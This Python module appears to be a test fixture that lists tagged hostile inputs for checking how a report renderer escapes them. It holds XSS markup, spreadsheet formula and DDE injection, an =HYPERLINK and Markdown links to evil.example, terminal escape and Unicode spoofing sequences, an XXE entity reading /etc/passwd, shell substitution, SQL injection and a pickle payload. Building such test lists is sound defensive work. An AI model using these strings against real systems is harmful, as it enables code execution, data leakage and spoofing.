"""Hostile strings: what a stranger may write into a report, and what it does to a careless reader.

`¤` stands for a mark of each string's own, by which a test finds it where it comes out.
"""

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Hostile:
    """A string, and why it stands here."""

    name: str
    pattern: str
    why: str
    mark: str

    @property
    def text(self) -> str:
        """The string."""
        return self.pattern.replace("¤", self.mark)

    @property
    def read(self) -> str:
        """The string as the tables have it: no encoding takes a lone surrogate."""
        return self.text.encode("utf-16", "surrogatepass").decode("utf-16", "replace")


_HIT = "window.__hit=1"

_MARKUP = [
    ("script", f"¤<script>{_HIT}</script>", "a page runs it"),
    ("image", f"¤<img src=x onerror={_HIT}>", "an event attribute runs without a click"),
    ("svg", f"¤<svg/onload={_HIT}>", "without white space, and no img"),
    ("double quote", f'¤"><img src=x onerror={_HIT}>', "leaves an attribute in double quotes"),
    ("single quote", f"¤' onmouseover='{_HIT}' x='", "leaves an attribute in single quotes"),
    ("focus", f'¤" autofocus onfocus="{_HIT}', "a new attribute that acts by itself"),
    ("closing tags", f"¤</bdi></td></table></select></textarea></style></title><script>{_HIT}</script>", "leaves what a raw-text element would hold"),
    ("comment", f"¤--><script>{_HIT}</script><!--", "leaves a comment"),
    ("frame", '¤<iframe srcdoc="<script>parent.__hit=1</script>">', "a page within"),
    ("anchor", f'¤<a href="javascript:{_HIT}">x</a>', "runs when it is clicked"),
    ("javascript link", f"javascript:{_HIT}//¤", "where a text becomes an href"),
    ("data link", "data:text/html,<script>top.__hit=1</script>¤", "a page in a link"),
    ("vbscript", "vbscript:msgbox(1)¤", "the same, elsewhere"),
    ("base", "¤<base href=//evil.example/>", "each relative link leads away"),
    ("refresh", '¤<meta http-equiv="refresh" content="0;url=//evil.example/">', "the page leaves by itself"),
    ("style sheet", "¤<link rel=stylesheet href=//evil.example/x.css>", "a request tells that the page was read"),
    ("style", "¤<style>*{display:none}</style>", "hides what the others say"),
    ("form", "¤<form action=//evil.example/><input name=p>", "asks for a password"),
    ("entities", f"¤&lt;img src=x onerror={_HIT}&gt;", "decoded twice, it is markup"),
    ("numeric entities", f"¤&#60;img src=x onerror={_HIT}&#62;", "the same by number"),
    ("template", "¤{{7*7}}${7*7}<%=7*7%>{%print(1)%}", "Jinja and its likes compute it"),
    ("format", "¤%s%d%n{0}{0.__class__}", "str.format or % reads it"),
    ("quotes", "¤\"'`<>&", "every quote at once"),
]  # fmt: skip

_MATHS = [
    ("broken mathtext", "¤$\\frac$", "Matplotlib raises while it draws"),
    ("mathtext", "¤$\\frac{1}{2}$", "Matplotlib and MathJax draw a fraction in its place"),
    ("display maths", "¤$$x^2$$", "the same, on a line of its own"),
    ("one dollar", "¤ costs 5$ or $6", "two prices become a formula"),
    ("bracketed maths", "¤\\(x^2\\) \\[y\\]", "MathJax's other marks"),
    ("environment", "¤\\begin{align}x\\end{align}", "MathJax takes it without any mark"),
    ("maths link", f"¤$\\href{{javascript:{_HIT}}}{{x}}$", "MathJax makes a link of it"),
    ("LaTeX", "¤\\input{/etc/passwd}\\write18{id}", "TeX reads files and runs commands"),
    ("sub and super", "¤_sub_^sup^{}~#%&", "TeX's active characters"),
]  # fmt: skip

_FORMULAS = [
    ("formula", '=1+1&"¤"', "a spreadsheet computes it"),
    ("link formula", '=HYPERLINK("http://evil.example/?¤","x")', "a click hands a cell's neighbours over"),
    ("DDE", "=cmd|' /C calc'!A0&\"¤\"", "old Excel starts a program"),
    ("plus", "+1+¤", "begins a formula, too"),
    ("minus", "-1+¤", "begins a formula, too"),
    ("at", "@SUM(1)¤", "begins a formula, too"),
    ("tab first", "\t=1+¤", "white space that an import drops"),
    ("carriage return first", "\r=1+¤", "white space that an import drops"),
    ("line feed first", "\n=1+¤", "white space that an import drops"),
    ("blank first", " =1+¤", "white space that an import drops"),
    ("no-break space first", "\u00a0=1+¤", "white space that an import drops"),
    ("zero width first", "\u200b=1+¤", "white space that nobody sees"),
    ("full width", "\uff1d1+¤", "Excel in East Asian settings takes it for ="),
    ("after a semicolon", "x¤;=1+1;y", "half of Europe's Excel parts cells by semicolons"),
    ("quote and comma", '¤",=1+1,"', "leaves its cell"),
    ("apostrophe", "'=¤", "must come back with its own apostrophe"),
    ("escaped by OOXML", "¤_x003D_1", "Excel decodes _xHHHH_"),
]  # fmt: skip

_TERMINALS = [
    ("colour", "¤\x1b[31mred\x1b[0m", "hides or fakes what the terminal shows"),
    ("title", "¤\x1b]0;pwned\x07", "sets the window's title, which some terminals can be asked to type back"),
    ("terminal link", "¤\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\", "a link under other words"),
    ("clipboard", "¤\x1b]52;c;cm0gLXJmIC8K\x07", "puts a command into the clipboard"),
    ("clear", "¤\x1b[2J\x1b[H\x1b[1A", "wipes what was printed before"),
    ("CSI of C1", "¤\x9b31m", "an escape in one character"),
    ("DCS of C1", "¤\x90q\x9c", "a device control string"),
    ("bell", "¤\x07", "rings"),
    ("backspaces", "¤\x08\x08\x08safe", "overwrites what stands before"),
    ("vertical tab", "¤\x0b\x0cx", "moves the cursor"),
    ("delete", "¤\x7f", "a control that isprint() of old forgets"),
    ("NUL", "¤\x00.exe", "C ends a string here"),
    ("carriage return", "¤\rforged: all is well", "writes over the line"),
    ("line feed", "¤\nforged: all is well", "a line of a log that nobody wrote"),
    ("CRLF", "¤\r\nforged: all is well", "the same, and a header of a mail"),
    ("line separator", "¤\u2028forged: all is well", "str.splitlines() and JavaScript end a line here"),
    ("next line", "¤\u0085forged: all is well", "the same, of C1"),
]  # fmt: skip

_UNICODE = [
    ("left-to-right override", "¤\u202dabc", "turns its neighbours"),
    ("right-to-left override", "¤\u202efdp.exe", "shows exe.pdf"),
    ("isolates", "¤\u2067abc\u2069\u2066\u2068", "turns what follows it"),
    ("embeddings", "¤\u202a\u202b\u202c", "the same of old"),
    ("marks", "¤\u200e\u200f\u061c.", "the same, unseen"),
    ("zero width", "¤\u200b\u200c\u200d\u2060\ufeffx", "two names that look alike"),
    ("tags", "¤\U000e0041\U000e0042", "text that nobody sees"),
    ("lone surrogate", "¤\ud800x", "no encoder takes it"),
    ("noncharacters", "¤\ufffe\uffff", "XML has none"),
    ("private use", "¤\ue000\U0010ffff", "no font has it"),
    ("combining", "¤" + "\u0300\u0316" * 40, "covers the lines beside it"),
    ("Hebrew", "¤ \u05e9\u05dc\u05d5\u05dd 12", "right to left without a control"),
    ("CJK", "¤\u65e5\u672c\u8a9e", "no glyph in a Latin font"),
    ("astral", "¤\U0001f469\u200d\U0001f680", "two code units, and a joiner"),
]  # fmt: skip

_MARKDOWN = [
    ("Markdown link", f"[¤](javascript:{_HIT})", "becomes a link"),
    ("Markdown image", "![¤](http://evil.example/x.png)", "is fetched when it is shown"),
    ("reference", "[¤]: http://evil.example 'x'", "a definition for other words"),
    ("footnote", "¤[^1]", "a note"),
    ("heading", "# ¤", "begins a chapter"),
    ("setext", "¤\n===\n---", "makes the line above a chapter"),
    ("pipes", "¤ | a | b |", "more cells than the table has"),
    ("fence", "```¤\nx\n```", "what follows is code"),
    ("tildes", "~~~¤", "what follows is code"),
    ("code", "`¤` ``x``", "is set as code"),
    ("emphasis", "**¤** __x__ ~~y~~ *z*", "is set as strong"),
    ("quotation", "> ¤", "someone else's words"),
    ("bullet", "- ¤", "a list"),
    ("number", "1. ¤", "a list"),
    ("indent", "    ¤", "code by its indent"),
    ("autolink", "<http://evil.example/¤>", "becomes a link"),
    ("bare link", "http://evil.example/¤", "becomes a link in most dialects"),
    ("www", "www.evil.example/¤", "becomes a link without a scheme"),
    ("mail", "¤@evil.example", "becomes a link to a mailbox"),
    ("backslash", "\\[¤\\](http://evil.example)", "a backslash escapes the escape"),
    ("blank line", "¤\n\n# forged: a chapter", "leaves its paragraph"),
    ("front matter", "---\ntitle: ¤\n---", "a header for a site builder"),
]  # fmt: skip

_DOCUMENTS = [
    ("CDATA", "¤]]><x/>", "leaves a CDATA section"),
    ("WordprocessingML", "¤</w:t></w:r></w:p><w:p><w:r><w:t>x", "writes paragraphs of its own"),
    ("entity", '¤<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;', "reads a file"),
    ("Word field", '¤{ HYPERLINK "http://evil.example" }', "a field, where a text is taken for one"),
    ("PDF string", "¤) Tj ET << /S /URI /URI (http://evil.example) >> (", "leaves a string of PDF"),
    ("PDF escape", "¤\\) \\( \\\\ \\101", "an escape within a string of PDF"),
]  # fmt: skip

_PATHS = [
    ("parents", "../../../../tmp/¤", "leaves the folder"),
    ("absolute", "/tmp/¤", "leaves the folder"),
    ("drive", "C:\\Windows\\¤", "leaves the folder, on Windows"),
    ("backslashes", "..\\..\\¤", "leaves the folder, on Windows"),
    ("share", "\\\\evil.example\\¤\\x", "asks a stranger's server, with a password's hash"),
    ("device", "CON.¤", "a name that Windows keeps for itself"),
    ("stream", "¤:stream", "hides beside a file"),
    ("trailing dots", "¤... ", "Windows drops them: another file"),
    ("home", "~/¤", "a shell or expanduser() leads elsewhere"),
    ("over-long", "¤" + "x" * 300, "longer than a file's name may be"),
    ("percent", "%2e%2e%2f¤", "decoded, it leaves the folder"),
    ("file URL", "file:///etc/passwd#¤", "an opener of URLs reads it"),
    ("command", "¤$(id)`id`;id|id&", "a shell runs it"),
    ("option", "--output=¤", "a program takes it for an option"),
    ("wildcards", "¤*?[a-z]", "a pattern matches other files"),
    ("SQL", "¤'; DROP TABLE reports; --", "an engine runs it"),
    ("pickle", "¤\x80\x04.cos\nsystem\n(S'id'\ntR.", "loads() runs it"),
]  # fmt: skip

_GROUPS = (
    _MARKUP, _MATHS, _FORMULAS, _TERMINALS, _UNICODE, _MARKDOWN, _DOCUMENTS, _PATHS,
)  # fmt: skip

ALL = tuple(
    Hostile(name, pattern, why, f"zq{number:03}q")
    for number, (name, pattern, why) in enumerate(row for group in _GROUPS for row in group)
)
"""Every string; each has a name of its own and comes with what it is after."""

assert len({one.name for one in ALL}) == len(ALL)
assert all("¤" in one.pattern for one in ALL)
